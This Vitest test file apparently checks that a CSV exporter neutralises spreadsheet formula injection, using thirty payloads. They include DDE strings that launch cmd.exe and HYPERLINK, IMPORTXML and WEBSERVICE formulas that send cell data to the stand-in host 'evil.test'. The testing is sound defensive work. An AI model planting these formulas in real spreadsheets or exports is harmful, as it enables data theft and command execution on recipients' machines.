import Papa from 'papaparse'
import { describe, expect, test } from 'vitest'
import { toCsv } from '@/shared/csv.ts'

/** Thirty texts with which somebody could make the spreadsheet of another person calculate, call or load (RELIABILITY T21). */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.test/?"&A1,"open")',
  '=IMPORTXML(CONCAT("https://evil.test/",A1:A9),"//a")',
  '=WEBSERVICE("https://evil.test/"&A1)',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "-2+3+cmd|' /C calc'!A0",
  '--1',
  '-',
  '@SUM(1+1)',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '  =1+1',
  '\u00A0=1+1',
  '\uFEFF=1+1',
  '\u3000=1+1',
  '\0=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '="a",=1+1',
  '"=1+1',
] as const

describe('thirty formulas in an export', () => {
  const others = ['上海', 'CNSHA', '12.50']
  const table = FORMULAS.map((formula) => [...others, formula, formula])
  const read = Papa.parse<string[]>(toCsv(table).slice(1), { newline: '\r\n', skipEmptyLines: true }).data

  test('are really thirty', () => {
    expect(new Set(FORMULAS).size).toBe(30)
  })
  test('keep their row and column: none breaks out of its cell', () => {
    expect(read.map((row) => row.length)).toEqual(table.map((row) => row.length))
    expect(read.map((row) => row.slice(0, 3))).toEqual(table.map(() => others))
  })
  test('begin no cell with what a spreadsheet calculates', () => {
    const cells = read.flat()
    expect(cells).toHaveLength(150)
    expect(cells.filter((cell) => /^[\s\0]*[=+\-@＝＋－＠]/u.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([])
  })
  test('can still be read as they were written', () => {
    expect(read.map((row) => row[3]?.replace(/^'/, ''))).toEqual([...FORMULAS])
  })
})
